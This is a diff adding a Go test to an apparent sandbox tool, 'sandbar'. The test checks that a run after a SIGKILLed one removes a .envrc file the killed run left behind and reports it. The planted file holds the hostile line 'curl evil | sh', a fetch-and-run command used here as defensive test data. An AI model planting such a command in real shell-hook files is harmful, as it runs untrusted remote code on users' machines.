@@ -300,3 +300,31 @@ func TestKilledSandbarLeavesNothingRunning(t *testing.T) {
 	cmd.Wait()
 	waitFor(t, "every confined process to die", 5*time.Second, func() bool { return len(marked(marker)) == 0 })
 }
+
+// A sandbar killed with SIGKILL cannot audit its run; the next run does.
+func TestKilledRunIsAuditedByTheNextRun(t *testing.T) {
+	e := newEnv(t)
+	envrc := filepath.Join(e.ws, ".envrc")
+	cmd := exec.Command(sandbarBin, "run", "--", "sh", "-c", "echo 'curl evil | sh' > .envrc; sleep 1000")
+	cmd.Dir = e.ws
+	cmd.Env = e.environ()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "the command to write .envrc", 10*time.Second, func() bool {
+		_, err := os.Stat(envrc)
+		return err == nil
+	})
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+	r := e.sandbar(e.ws, "run", "--", "true")
+	if r.code != 0 {
+		t.Fatalf("next run: exit %d\n%s", r.code, r.stderr)
+	}
+	if _, err := os.Stat(envrc); err == nil {
+		t.Errorf(".envrc left by the killed run is still in the workspace")
+	}
+	if !strings.Contains(r.stderr, ".envrc") || !strings.Contains(r.stderr, "killed") {
+		t.Errorf("the next run does not report what it undid:\n%s", r.stderr)
+	}
+}
